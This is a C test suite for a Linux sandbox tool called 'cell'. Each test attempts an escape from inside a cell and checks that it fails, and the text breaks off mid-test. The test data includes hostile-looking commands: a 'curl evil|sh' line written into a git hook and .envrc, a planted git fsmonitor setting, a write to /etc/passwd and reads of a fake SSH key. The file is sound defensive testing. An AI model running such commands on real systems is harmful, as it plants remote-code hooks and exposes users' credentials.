/* SPDX-License-Identifier: MIT */
/*
 * The escape suite: each case makes a real attempt from inside a real cell and asserts that it
 * fails, and where it can, that the same attempt works outside (so the case can fail). Cells
 * run as an unprivileged user: the caller, or when the suite runs as root (CI), the user
 * "celltest", created if missing.
 */
#include <criterion/criterion.h>
#include <criterion/new/assert.h>
#include <criterion/parameterized.h>
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <pwd.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "bpf.h"
#include "fileio.h"
#include "helpers.h"
#include "macro.h"

/* the staged ones, which the test user can reach from any checkout */
#define CELL t.stage.cell
#define PROBE t.stage.probe
#define TEST_USER TH_TEST_USER

static const char default_config[] = "{\"name\": \"esc\", \"network\": {\"mode\": \"none\"}}\n";

static struct {
	char *tmp, *home, *proj, *outside;
	struct th_stage stage;
	uid_t uid;
	gid_t gid;
	char *env[24];
	size_t n_env;
} t;

static void env_add(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	cr_assert(ge(int, vasprintf(&t.env[t.n_env++], fmt, ap), 0));
	va_end(ap);
	t.env[t.n_env] = NULL;
}

/* CI runs as root: the cells run as the test user then. */
static void find_user(void)
{
	if (geteuid() != 0) {
		t.uid = getuid();
		t.gid = getgid();
		return;
	}
	th_test_user(&t.uid, &t.gid);
}

/* (--yes: the suite's configs weaken the cell on purpose, and it knows) */
static void allow(void)
{
	char *argv[] = {(char *)CELL, (char *)"allow", (char *)"--yes", NULL};
	struct th_result r;

	th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
	cr_assert(eq(int, r.status, 0), "cell allow: %s", r.err);
	th_result_done(&r);
}

static void set_config(const char *json)
{
	free(th_write(t.proj, ".cell.json", json));
	th_chown_r(t.proj, t.uid, t.gid);
	allow();
}

static void setup(void)
{
	char *probe, *text;

	memset(&t, 0, sizeof(t));
	find_user();
	t.tmp = th_mkdtemp();
	chmod(t.tmp, 0755);
	th_stage(&t.stage);
	t.home = th_join(t.tmp, "home");
	t.proj = th_join(t.tmp, "proj");
	t.outside = th_join(t.tmp, "outside");
	free(th_write(t.home, ".ssh/id_ed25519", "FAKE PRIVATE KEY\n"));
	free(th_write(t.home, ".bashrc", "# the user's bashrc\n"));
	free(th_write(t.home, ".gitconfig", "[user]\n\tname = Test\n"));
	free(th_write(t.proj, ".git/hooks/README", "hooks\n"));
	free(th_write(t.proj, ".git/config", "[core]\n\tbare = false\n"));
	free(th_write(t.proj, "src/main.c", "int main(void) { return 0; }\n"));
	free(th_write(t.outside, "note", "outside\n"));
	cell_read_file(PROBE, 0, CELL_FILE_MAX, &text, NULL);
	cr_assert(not(eq(ptr, text, NULL)), "no probe at %s", PROBE);
	free(text);
	/* the probe must be inside the project to be visible in the cell */
	probe = th_join(t.proj, "probe");
	{
		char *argv[] = {(char *)"/bin/cp", (char *)PROBE, probe, NULL};
		struct th_result r;

		th_run(NULL, argv, (char *[]){NULL}, &r);
		cr_assert(eq(int, r.status, 0));
		th_result_done(&r);
	}
	free(probe);
	free(th_write(t.proj, ".cell.json", default_config));
	th_chown_r(t.tmp, t.uid, t.gid);

	env_add("HOME=%s", t.home);
	env_add("USER=%s", geteuid() == 0 ? TEST_USER : getpwuid(getuid())->pw_name);
	env_add("PATH=/usr/local/bin:/usr/bin:/bin");
	env_add("LANG=C.UTF-8");
	env_add("XDG_CONFIG_HOME=%s/.config", t.home);
	env_add("XDG_DATA_HOME=%s/.local/share", t.home);
	env_add("XDG_STATE_HOME=%s/.local/state", t.home);
	env_add("AWS_SECRET_ACCESS_KEY=not-a-real-secret");
	env_add("GITHUB_TOKEN=ghp_not_real");
	env_add("SSH_AUTH_SOCK=/tmp/ssh-agent.sock");
	env_add("EDITOR=vi");
	allow();
}

static void teardown(void)
{
	for (size_t i = 0; i < t.n_env; i++)
		free(t.env[i]);
	th_rm_rf(t.tmp);
	free(t.tmp);
	free(t.home);
	free(t.proj);
	free(t.outside);
	th_stage_done(&t.stage);
}

TestSuite(escape, .init = setup, .fini = teardown, .timeout = 60);

/* sh -c SCRIPT inside the project's cell, as the test user, from dir (relative to proj). */
static struct th_result in_cell_at(const char *dir, const char *script)
{
	char *cwd = dir ? th_join(t.proj, dir) : strdup(t.proj);
	char *argv[] = {(char *)CELL, (char *)"run",  (char *)"--", (char *)"/bin/sh",
			(char *)"-c", (char *)script, NULL};
	struct th_result r;

	th_run_as(t.uid, t.gid, cwd, argv, t.env, &r);
	free(cwd);
	return r;
}

static struct th_result in_cell(const char *script)
{
	return in_cell_at(NULL, script);
}

/* The same script, outside any cell: the positive control. */
static struct th_result outside(const char *script)
{
	char *argv[] = {(char *)"/bin/sh", (char *)"-c", (char *)script, NULL};
	struct th_result r;

	th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
	return r;
}

static void expect(struct th_result r, int status, const char *out)
{
	cr_assert(eq(int, r.status, status), "status %d, stdout '%s', stderr '%s'", r.status, r.out,
		  r.err);
	if (out)
		cr_assert(eq(str, r.out, (char *)out), "stderr: %s", r.err);
	th_result_done(&r);
}

/* The probe inside the cell fails with errno_name; outside, it does not fail that way. */
static void probe_blocked(const char *what, const char *errno_name)
{
	char script[128], want[64];
	struct th_result in, out;

	snprintf(script, sizeof(script), "./probe %s", what);
	snprintf(want, sizeof(want), "errno=%s\n", errno_name);
	in = in_cell(script);
	out = outside(script);
	cr_assert(eq(str, in.out, want), "inside: %s %s", in.out, in.err);
	cr_assert(ne(str, out.out, want), "outside fails the same way, so this proves nothing");
	th_result_done(&in);
	th_result_done(&out);
}

static bool host_has(const char *rel)
{
	char *p = th_join(t.tmp, rel);
	bool r = access(p, F_OK) == 0;

	free(p);
	return r;
}

static char *host_read(const char *rel)
{
	char *p = th_join(t.tmp, rel), *s = th_read(p);

	free(p);
	return s;
}

Test(escape, ssh_key_in_the_real_home_is_invisible)
{
	char script[256];

	snprintf(script, sizeof(script), "cat %s/.ssh/id_ed25519", t.home);
	expect(outside(script), 0, "FAKE PRIVATE KEY\n");
	expect(in_cell(script), 1, "");
}

Test(escape, home_is_private_but_rc_files_are_there_read_only)
{
	char script[512];

	snprintf(
		script, sizeof(script),
		"ls -A %s | sort | tr '\\n' ' '; cat %s/.gitconfig | head -1; echo x >> %s/.bashrc",
		t.home, t.home, t.home);
	expect(in_cell(script), 2, ".bashrc .gitconfig [user]\n");
}

Test(escape, writes_outside_the_project_never_reach_the_host)
{
	char script[512];

	snprintf(script, sizeof(script),
		 "mkdir -p %s && echo evil > %s/note2; echo evil > %s/planted; echo done",
		 t.outside, t.outside, t.home);
	expect(in_cell(script), 0, "done\n");
	cr_assert(not(host_has("outside/note2")));
	cr_assert(not(host_has("home/planted")));
	expect(outside(script), 0, "done\n");
	cr_assert(host_has("outside/note2"));
}

Test(escape, system_is_read_only)
{
	char *s;

	/* a user gets EACCES before EROFS here, so the mount itself is checked too */
	expect(in_cell("echo evil >> /etc/passwd"), 2, "");
	s = th_read("/etc/passwd");
	cr_assert(eq(ptr, strstr(s, "evil"), NULL));
	free(s);
	expect(in_cell("awk '$5 == \"/etc\" || $5 == \"/usr\" { print $5, substr($6, 1, 2) }' "
		       "/proc/self/mountinfo"),
	       0, "/usr ro\n/etc ro\n");
	expect(in_cell("touch /usr/evil 2>&1 | grep -o 'Read-only file system'"), 0,
	       "Read-only file system\n");
}

Test(escape, project_is_writable_and_visible_outside)
{
	char *s;

	expect(in_cell("echo built > src/out.txt && cat src/out.txt"), 0, "built\n");
	s = host_read("proj/src/out.txt");
	cr_assert(eq(str, s, "built\n"));
	free(s);
}

Test(escape, git_hook_cannot_be_planted)
{
	expect(outside("echo ok > .git/hooks/probe-write && rm .git/hooks/probe-write && echo ok"),
	       0, "ok\n");
	expect(in_cell("echo 'curl evil|sh' > .git/hooks/post-checkout"), 2, "");
	cr_assert(not(host_has("proj/.git/hooks/post-checkout")));
}

Test(escape, git_hook_cannot_be_planted_where_no_hooks_dir_exists)
{
	char *hooks = th_join(t.proj, ".git/hooks");

	th_rm_rf(hooks);
	expect(in_cell("mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout"), 2, "");
	cr_assert(not(host_has("proj/.git/hooks/post-checkout")));
	free(hooks);
}

/* A project with no repository: the cell cannot make one whose config (a core.fsmonitor) the
 * user's git would run outside, at the project's root where the hook leaves the user. */
Test(escape, no_repository_can_be_made_where_there_is_none)
{
	char *git = th_join(t.proj, ".git");

	th_rm_rf(git);
	expect(in_cell("git init -q . 2>/dev/null || echo refused; "
		       "mkdir -p .git/hooks 2>/dev/null || echo refused"),
	       0, "refused\nrefused\n");
	cr_assert(not(host_has("proj/.git/config")));
	cr_assert(not(host_has("proj/.git/hooks")));
	/* the positive control: outside, the same makes one */
	expect(outside("git init -q . && test -f .git/config && echo made"), 0, "made\n");
	free(git);
}

Test(escape, git_config_cannot_gain_an_fsmonitor)
{
	char *s;

	expect(in_cell("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config"), 2, "");
	s = host_read("proj/.git/config");
	cr_assert(eq(str, s, "[core]\n\tbare = false\n"));
	free(s);
}

Test(escape, cell_json_cannot_be_changed_or_replaced)
{
	char *s;

	expect(in_cell("echo '{}' > .cell.json"), 2, "");
	expect(in_cell("rm -f .cell.json || mv .cell.json x"), 1, "");
	s = host_read("proj/.cell.json");
	cr_assert(eq(str, s, (char *)default_config));
	free(s);
}

Test(escape, envrc_and_editor_settings_stay_read_only)
{
	free(th_write(t.proj, ".envrc", "use nix\n"));
	free(th_write(t.proj, ".vscode/settings.json", "{}\n"));
	free(th_write(t.proj, ".idea/workspace.xml", "<x/>\n"));
	th_chown_r(t.proj, t.uid, t.gid);
	/* (.envrc is trusted with the config: a new one needs cell allow) */
	allow();
	expect(in_cell("echo 'curl evil|sh' >> .envrc"), 2, "");
	expect(in_cell("echo '{\"tasks\": 1}' > .vscode/tasks.json"), 2, "");
	expect(in_cell("echo x > .idea/workspace.xml"), 2, "");
	cr_assert(not(host_has("proj/.vscode/tasks.json")));
}

Test(escape, outer_processes_are_invisible)
{
	char *argv[] = {(char *)"/bin/sleep", (char *)"31337", NULL};
	pid_t pid = th_spawn_as(t.uid, t.gid, NULL, argv, t.env);
	struct th_result grep, ps;

	/* "3133[7]" does not match the script's own command line */
	grep = in_cell(
		"grep -l '3133[7]' /proc/[0-9]*/cmdline 2>/dev/null | grep -v self; echo none");
	/* ps alone, so the pipeline's other processes are not in the picture */
	ps = in_cell("ps -e -o comm= > /tmp/ps; sort /tmp/ps | tr '\\n' ' '");
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	expect(grep, 0, "none\n");
	expect(ps, 0, "init ps sh ");
}

Test(escape, ptrace_reaches_only_the_cells_own_processes)
{
	char *argv[] = {(char *)"/bin/sleep", (char *)"31338", NULL};
	pid_t pid = th_spawn_as(t.uid, t.gid, NULL, argv, t.env);
	struct th_result in, out;
	char script[64], comm[64] = "";

	/* until it runs sleep it is not the test user's to trace: root's before its setuid, and
	 * not dumpable after it until exec */
	snprintf(script, sizeof(script), "/proc/%d/comm", (int)pid);
	for (int i = 0; i < 500 && strcmp(comm, "sleep\n") != 0; i++) {
		char *text = th_read(script);

		snprintf(comm, sizeof(comm), "%s", text ? text : "");
		free(text);
		if (strcmp(comm, "sleep\n") != 0)
			usleep(10000);
	}
	cr_assert(eq(str, comm, "sleep\n"));
	snprintf(script, sizeof(script), "./probe ptrace %d", (int)pid);
	out = outside(script);
	in = in_cell(script);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	expect(out, 0, "ok\n");
	expect(in, 1, "errno=ESRCH\n");
	/* gdb and strace keep working on the cell's own processes */
	expect(in_cell("./probe ptrace-child"), 0, "ok\n");
}

Test(escape, tiocsti_cannot_type_into_the_terminal)
{
	probe_blocked("tiocsti", "EPERM");
}

Test(escape, no_nested_user_namespace)
{
	probe_blocked("unshare-user", "EPERM");
	expect(in_cell("unshare -U true 2>/dev/null || echo refused"), 0, "refused\n");
}

Test(escape, nested_user_namespace_when_the_config_allows_it)
{
	set_config("{\"network\": {\"mode\": \"none\"}, \"hardening\": {\"allow_userns\": true}}");
	expect(in_cell("./probe unshare-user"), 0, "ok\n");
}

Test(escape, no_kernel_keyrings)
{
	probe_blocked("keyctl", "EPERM");
}

Test(escape, the_i386_syscall_gate_is_filtered_too)
{
	struct th_result out = outside("./probe keyctl32");

	if (out.status != 0) {
		th_result_done(&out);
		th_skip("this kernel has no i386 system call gate (no IA32 emulation)");
	}
	th_result_done(&out);
	expect(in_cell("./probe keyctl32"), 1, "errno=EPERM\n");
}

/*
 * The probe inside the cell gets EAFNOSUPPORT, as for a family the kernel lacks; outside it
 * must do otherwise for the case to prove anything, which it cannot where the kernel lacks the
 * family: then the case is skipped, saying so (after the check inside).
 */
static void family_refused(const char *what, const char *family)
{
	char script[128];
	struct th_result in, out;
	bool absent;

	snprintf(script, sizeof(script), "./probe %s", what);
	in = in_cell(script);
	out = outside(script);
	absent = streq(out.out, "errno=EAFNOSUPPORT\n");
	th_result_done(&out);
	expect(in, 1, "errno=EAFNOSUPPORT\n");
	if (absent)
		th_skip("this kernel has no %s: no control outside for '%s'", family, what);
}

/* Parameters are copied into worker processes: no pointers in them. */
struct family {
	char probe[16];
	char name[16];
};

ParameterizedTestParameters(escape, sockets_of_other_families_are_refused)
{
	static struct family cases[] = {
		{"vsock", "AF_VSOCK"},	 {"bluetooth", "AF_BLUETOOTH"},
		{"packet", "AF_PACKET"}, {"alg", "AF_ALG"},
		{"key", "AF_KEY"},
	};
	return cr_make_param_array(struct family, cases, ELEMENTSOF(cases));
}

/* vsock reaches the hypervisor from a VM (it has no network namespace); the rest are kernel
 * code that the cell's network rules (inet only) never see */
ParameterizedTest(struct family *f, escape, sockets_of_other_families_are_refused)
{
	char what[32];

	snprintf(what, sizeof(what), "socket %s", f->probe);
	family_refused(what, f->name);
}

Test(escape, unix_inet_and_netlink_sockets_still_open)
{
	expect(in_cell("for f in unix inet inet6 netlink; do ./probe socket $f; done; "
		       "./probe socketpair unix"),
	       0, "ok\nok\nok\nok\nok\n");
	/* outside, vsock has no pairs (EOPNOTSUPP): the EAFNOSUPPORT inside is the filter's */
	probe_blocked("socketpair vsock", "EAFNOSUPPORT");
}

Test(escape, the_i386_socket_calls_are_filtered_too)
{
	struct th_result out = outside("./probe keyctl32");

	if (out.status != 0) {
		th_result_done(&out);
		th_skip("this kernel has no i386 system call gate (no IA32 emulation)");
	}
	th_result_done(&out);
	/* the direct calls (Linux 4.3+) are judged by their family */
	expect(in_cell("./probe socket32 unix; ./probe socketpair32 unix"), 0, "ok\nok\n");
	probe_blocked("socket32 packet", "EAFNOSUPPORT");
	/* socketcall hides the family in memory: refused whatever it is */
	probe_blocked("socketcall32 unix", "EAFNOSUPPORT");
	family_refused("socket32 vsock", "AF_VSOCK");
}

Test(escape, no_bpf_perf_or_userfaultfd)
{
	probe_blocked("bpf", "EPERM");
	probe_blocked("perf", "EPERM");
	probe_blocked("userfaultfd", "EPERM");
}

Test(escape, io_uring_only_when_allowed)
{
	probe_blocked("io_uring", "EPERM");
	set_config(
		"{\"network\": {\"mode\": \"none\"}, \"hardening\": {\"allow_io_uring\": true}}");
	expect(in_cell("./probe io_uring"), 0, "ok\n");
}

Test(escape, secrets_in_the_environment_stay_out)
{
	expect(in_cell("env | grep -E '^(AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|SSH_AUTH_SOCK)=' ; echo $EDITOR $CELL_NAME"),
	       0, "vi esc\n");
	set_config(
		"{\"name\": \"esc\", \"env\": {\"pass\": [\"GITHUB_TOKEN\"], \"set\": {\"MODE\": \"dev\"}}}");
	expect(in_cell("echo $GITHUB_TOKEN $MODE $AWS_SECRET_ACCESS_KEY"), 0, "ghp_not_real dev\n");
}

Test(escape, cell_variables_are_set)
{
	char want[512];
	struct th_result r =
		in_cell("echo \"$CELL_NAME|$CELL_ROOT|$HOME|$(hostname)\"; echo $CELL_ID");

	snprintf(want, sizeof(want), "esc|%s|%s|cell-esc\nproj-", t.proj, t.home);
	cr_assert(eq(int, strncmp(r.out, want, strlen(want)), 0), "%s", r.out);
	th_result_done(&r);
}

Test(escape, setuid_binaries_gain_nothing)
{
	char want[64];
	char *dir, *suid;

	if (geteuid() != 0)
		th_skip("making a setuid-root binary needs root");
	/* a system program (never a sanitizer build: those read ASAN_OPTIONS before main()), in
	 * a directory only root and the test user can enter */
	dir = th_join(t.proj, "suid");
	suid = th_join(dir, "id");
	cr_assert(eq(int, mkdir(dir, 0750), 0));
	cr_assert(eq(int, chown(dir, 0, t.gid), 0));
	{
		char *argv[] = {(char *)"/bin/cp", (char *)"/usr/bin/id", suid, NULL};

		th_run_ok(NULL, argv, (char *[]){NULL});
	}
	cr_assert(eq(int, chown(suid, 0, 0), 0));
	cr_assert(eq(int, chmod(suid, 04755), 0));
	expect(outside("./suid/id -u"), 0, "0\n");
	/* the same binary inside runs as the user who ran it */
	snprintf(want, sizeof(want), "%u\n", (unsigned)t.uid);
	expect(in_cell("./suid/id -u"), 0, want);
	expect(in_cell("grep NoNewPrivs /proc/self/status | tr -d '\\t'"), 0, "NoNewPrivs:1\n");
	free(suid);
	free(dir);
}

Test(escape, outer_tmp_is_invisible)
{
	char name[64], script[128];
	FILE *f;

	snprintf(name, sizeof(name), "/tmp/cell-outer-%d", (int)getpid());
	f = fopen(name, "w");
	cr_assert(not(eq(ptr, f, NULL)));
	fputs("secret\n", f);
	fclose(f);
	chmod(name, 0644);
	snprintf(script, sizeof(script), "cat %s", name);
	expect(outside(script), 0, "secret\n");
	expect(in_cell(script), 1, "");
	unlink(name);
}

Test(escape, no_network_in_none_mode)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t len = sizeof(a);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	char script[64];

	cr_assert(eq(int, bind(fd, (struct sockaddr *)&a, sizeof(a)), 0));
	cr_assert(eq(int, listen(fd, 4), 0));
	getsockname(fd, (struct sockaddr *)&a, &len);
	snprintf(script, sizeof(script), "./probe connect %d", ntohs(a.sin_port));
	expect(outside(script), 0, "ok\n");
	expect(in_cell(script), 1, "errno=ECONNREFUSED\n");
	expect(in_cell("ls /sys/class/net 2>/dev/null || cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '"),
	       0, "lo\n");
	close(fd);
}

Test(escape, no_mounts_and_no_capabilities_even_with_overlays)
{
	free(th_write(t.tmp, "lower/file", "lower\n"));
	th_chown_r(t.tmp, t.uid, t.gid);
	{
		char json[512];

		snprintf(
			json, sizeof(json),
			"{\"network\": {\"mode\": \"none\"}, \"mounts\": [{\"path\": \"%s/lower\", "
			"\"dest\": \"%s/lower\", \"mode\": \"overlay\"}]}",
			t.tmp, t.home);
		set_config(json);
	}
	expect(in_cell("./probe mount; ./probe remount-usr; grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status | tr -d '\\t'"),
	       0,
	       "errno=EPERM\nerrno=EPERM\nCapPrm:0000000000000000\nCapEff:0000000000000000\nCapBnd:0000000000000000\n");
}

Test(escape, state_mount_persists_across_cells)
{
	char json[256], script[256];

	snprintf(json, sizeof(json),
		 "{\"mounts\": [{\"path\": \"~/.cache/tool\", \"mode\": \"state\"}]}");
	set_config(json);
	snprintf(script, sizeof(script), "echo run >> %s/.cache/tool/log; cat %s/.cache/tool/log",
		 t.home, t.home);
	expect(in_cell(script), 0, "run\n");
	expect(in_cell(script), 0, "run\nrun\n");
	/* the real ~/.cache/tool is not where it went */
	cr_assert(not(host_has("home/.cache/tool/log")));
}

Test(escape, overlay_writes_never_reach_the_source)
{
	char json[512], script[512], *s;

	free(th_write(t.tmp, "shared/lib.txt", "original\n"));
	th_chown_r(t.tmp, t.uid, t.gid);
	snprintf(json, sizeof(json),
		 "{\"network\": {\"mode\": \"none\"}, "
		 "\"mounts\": [{\"path\": \"%s/shared\", \"mode\": \"overlay\"}]}",
		 t.tmp);
	set_config(json);
	snprintf(
		script, sizeof(script),
		"echo patched > %s/shared/lib.txt; echo new > %s/shared/new.txt; cat %s/shared/lib.txt",
		t.tmp, t.tmp, t.tmp);
	expect(in_cell(script), 0, "patched\n");
	s = host_read("shared/lib.txt");
	cr_assert(eq(str, s, "original\n"));
	free(s);
	cr_assert(not(host_has("shared/new.txt")));
	/* the upper layer is kept between cells */
	snprintf(script, sizeof(script), "cat %s/shared/lib.txt %s/shared/new.txt", t.tmp, t.tmp);
	expect(in_cell(script), 0, "patched\nnew\n");
}

Test(escape, ephemeral_overlay_forgets)
{
	char json[512], script[512];

	free(th_write(t.tmp, "shared/lib.txt", "original\n"));
	th_chown_r(t.tmp, t.uid, t.gid);
	snprintf(json, sizeof(json),
		 "{\"network\": {\"mode\": \"none\"}, \"mounts\": [{\"path\": \"%s/shared\", "
		 "\"mode\": \"overlay\", \"ephemeral\": true}]}",
		 t.tmp);
	set_config(json);
	snprintf(script, sizeof(script), "cat %s/shared/lib.txt; echo patched > %s/shared/lib.txt",
		 t.tmp, t.tmp);
	expect(in_cell(script), 0, "original\n");
	expect(in_cell(script), 0, "original\n");
}

Test(escape, tmpfs_hides_the_hosts_directory)
{
	char *s;

	free(th_write(t.proj, "target/stale.o", "host build\n"));
	th_chown_r(t.proj, t.uid, t.gid);
	set_config(
		"{\"network\": {\"mode\": \"none\"}, \"mounts\": [{\"path\": \"./target\", \"mode\": \"tmpfs\"}]}");
	expect(in_cell("ls -A target; echo fresh > target/new.o; cat target/new.o"), 0, "fresh\n");
	cr_assert(not(host_has("proj/target/new.o")));
	s = host_read("proj/target/stale.o");
	cr_assert(eq(str, s, "host build\n"));
	free(s);
}

Test(escape, read_only_and_read_write_mounts)
{
	char json[512], script[512];

	free(th_write(t.tmp, "data/in.txt", "data\n"));
	free(th_write(t.tmp, "out/keep", ""));
	th_chown_r(t.tmp, t.uid, t.gid);
	snprintf(json, sizeof(json),
		 "{\"mounts\": [{\"path\": \"%s/data\"}, {\"path\": \"%s/out\", \"mode\": \"rw\"}, "
		 "{\"path\": \"%s/absent\", \"optional\": true}]}",
		 t.tmp, t.tmp, t.tmp);
	set_config(json);
	snprintf(script, sizeof(script),
		 "cat %s/data/in.txt; echo x > %s/out/result; echo y > %s/data/in.txt", t.tmp,
		 t.tmp, t.tmp);
	expect(in_cell(script), 2, "data\n");
	cr_assert(host_has("out/result"));
}

Test(escape, a_missing_source_stops_the_cell_before_it_starts)
{
	char json[512];
	struct th_result r;

	snprintf(json, sizeof(json), "{\"mounts\": [{\"path\": \"%s/absent\"}]}", t.tmp);
	set_config(json);
	r = in_cell("echo started > started");
	cr_assert(eq(int, r.status, 2), "%s", r.err);
	cr_assert(not(eq(ptr, strstr(r.err, "absent' does not exist"), NULL)), "%s", r.err);
	cr_assert(not(host_has("proj/started")));
	th_result_done(&r);
}

Test(escape, two_mounts_at_one_place_are_an_error_naming_both)
{
	struct th_result r;

	set_config(
		"{\"mounts\": [{\"path\": \"./a\", \"dest\": \"/opt/x\", \"optional\": true, \"mode\": \"tmpfs\"}, "
		"{\"path\": \"/usr\", \"dest\": \"/opt/x\"}]}");
	r = in_cell("true");
	cr_assert(eq(int, r.status, 2));
	cr_assert(not(eq(ptr, strstr(r.err, ".cell.json: mounts[0] and "), NULL)), "%s", r.err);
	cr_assert(not(eq(ptr, strstr(r.err, ".cell.json: mounts[1] both mount '/opt/x'"), NULL)),
		  "%s", r.err);
	th_result_done(&r);
}

Test(escape, exit_status_is_the_commands)
{
	expect(in_cell("exit 7"), 7, "");
	expect(in_cell("kill -KILL $$"), 137, "");
	expect(in_cell("exec ./no-such-program"), 127, "");
}

Test(escape, working_directory_is_kept)
{
	char want[512];

	free(th_write(t.proj, "src/deep/dir/.keep", ""));
	th_chown_r(t.proj, t.uid, t.gid);
	snprintf(want, sizeof(want), "%s/src/deep/dir\n", t.proj);
	expect(in_cell_at("src/deep/dir", "pwd"), 0, want);
}

Test(escape, sigterm_reaches_the_command)
{
	char *ready = th_join(t.proj, "ready"), *got;
	char *argv[] = {(char *)CELL,
			(char *)"run",
			(char *)"--",
			(char *)"/bin/sh",
			(char *)"-c",
			(char *)"trap 'echo TERM > got; exit 3' TERM; echo > ready; "
				"while :; do sleep 0.1; done",
			NULL};
	pid_t pid = th_spawn_as(t.uid, t.gid, t.proj, argv, t.env);
	int status;

	cr_assert(th_wait_for_file(ready, 20), "the cell did not start");
	kill(pid, SIGTERM);
	waitpid(pid, &status, 0);
	cr_assert(eq(int, WIFEXITED(status) ? 1 : 0, 1));
	cr_assert(eq(int, WEXITSTATUS(status), 3));
	got = host_read("proj/got");
	cr_assert(eq(str, got, "TERM\n"));
	free(got);
	free(ready);
}

Test(escape, paths_with_spaces_and_quotes)
{
	char *dir = th_join(t.tmp, "it's a \"project\" -x");
	char *argv[] = {(char *)CELL, (char *)"run",
			(char *)"--", (char *)"/bin/sh",
			(char *)"-c", (char *)"pwd; echo ok > 'out file'",
			NULL};
	char *allow[] = {(char *)CELL, (char *)"allow", NULL};
	char want[512];
	struct th_result r;

	free(th_write(dir, ".cell.json", "{\"name\": \"odd\"}"));
	th_chown_r(t.tmp, t.uid, t.gid);
	th_run_as(t.uid, t.gid, dir, allow, t.env, &r);
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	th_result_done(&r);
	th_run_as(t.uid, t.gid, dir, argv, t.env, &r);
	snprintf(want, sizeof(want), "%s\n", dir);
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	cr_assert(eq(str, r.out, want));
	th_result_done(&r);
	cr_assert(host_has("it's a \"project\" -x/out file"));
	free(dir);
}

Test(escape, an_untrusted_config_never_runs)
{
	struct th_result r;

	free(th_write(t.proj, ".cell.json", "{\"name\": \"changed\"}"));
	th_chown_r(t.proj, t.uid, t.gid);
	r = in_cell("echo ran > ran");
	cr_assert(eq(int, r.status, 1));
	/* from within the project: the command to run there, the path shortened with ~ if in
	 * $HOME */
	cr_assert(not(eq(ptr,
			 strstr(r.err,
				"/proj/.cell.json is not allowed; run 'cell allow' to trust it\n"),
			 NULL)),
		  "%s", r.err);
	cr_assert(not(host_has("proj/ran")));
	th_result_done(&r);
}

Test(escape, root_is_refused_without_a_user_and_dropped_with_one)
{
	char *refuse[] = {(char *)CELL, (char *)"run", (char *)"--",
			  (char *)"id", (char *)"-u",  NULL};
	char *as_user[] = {(char *)CELL, (char *)"run", (char *)"--user", (char *)TEST_USER,
			   (char *)"--", (char *)"id",	(char *)"-u",	  NULL};
	char *user_home_env[4] = {NULL}, want[32];
	struct th_result r;

	if (geteuid() != 0)
		th_skip("the root rule needs root");
	th_run(t.proj, refuse, t.env, &r);
	cr_assert(eq(int, r.status, 1));
	cr_assert(eq(
		str, r.err,
		"cell: refusing to run a cell as root; name its user with --user NAME (or pass --allow-root)\n"));
	th_result_done(&r);

	/* as the user, with the user's own home: allow there, then run from root with --user */
	cr_assert(ge(int, asprintf(&user_home_env[0], "HOME=%s", getpwnam(TEST_USER)->pw_dir), 0));
	user_home_env[1] = (char *)"PATH=/usr/bin:/bin";
	{
		char *allow[] = {(char *)CELL, (char *)"allow", NULL};

		th_run_as(t.uid, t.gid, t.proj, allow, user_home_env, &r);
		cr_assert(eq(int, r.status, 0), "%s", r.err);
		th_result_done(&r);
	}
	th_run(t.proj, as_user, t.env, &r);
	snprintf(want, sizeof(want), "%u\n", (unsigned)t.uid);
	cr_assert(eq(int, r.status, 0), "%s", r.err);
	cr_assert(eq(str, r.out, want));
	th_result_done(&r);
	free(user_home_env[0]);
}

/* Runs tmux as the test user with the suite's environment; returns its stdout. */
static char *tmux(const char *a, const char *b, const char *c, const char *d)
{
	char *argv[] = {(char *)"/usr/bin/tmux",
			(char *)"-L",
			(char *)"cell-test",
			(char *)a,
			(char *)b,
			(char *)c,
			(char *)d,
			NULL};
	struct th_result r;
	char *out;

	th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
	out = r.out;
	free(r.err);
	return out;
}

/* Polls the pane until it shows want (bounded); returns whether it did. */
static bool pane_shows(const char *want)
{
	for (int i = 0; i < 200; i++) {
		char *screen = tmux("capture-pane", "-p", "-t", "t");
		bool found = screen && strstr(screen, want);

		free(screen);
		if (found)
			return true;
		usleep(50000);
	}
	return false;
}

Test(escape, enter_gives_a_marked_shell_with_job_control)
{
	char cmd[512], *screen;

	if (access("/usr/bin/tmux", X_OK) < 0)
		th_skip("tmux is not installed");
	env_add("SHELL=/bin/bash");
	env_add("TERM=xterm");
	free(tmux("kill-server", NULL, NULL, NULL));
	{
		char *argv[] = {(char *)"/usr/bin/tmux", (char *)"-L", (char *)"cell-test",
				(char *)"new-session", (char *)"-d", (char *)"-s", (char *)"t",
				(char *)"-x", (char *)"150", (char *)"-y", (char *)"30",
				/* (no history file: it would be written as the server goes, after
				 * the teardown) */
				(char *)"env HISTFILE= /bin/bash --norc --noprofile", NULL};
		struct th_result r;

		th_run_as(t.uid, t.gid, t.proj, argv, t.env, &r);
		cr_assert(eq(int, r.status, 0), "%s", r.err);
		th_result_done(&r);
	}
	snprintf(cmd, sizeof(cmd), "%s enter", CELL);
	free(tmux("send-keys", "-t", "t", cmd));
	free(tmux("send-keys", "-t", "t", "Enter"));
	cr_assert(pane_shows("[cell:esc] "), "no marked prompt");
	/* job control: a background job, then Ctrl-C stops only the foreground one */
	free(tmux("send-keys", "-t", "t", "sleep 60 & sleep 61"));
	free(tmux("send-keys", "-t", "t", "Enter"));
	usleep(300000);
	free(tmux("send-keys", "-t", "t", "C-c"));
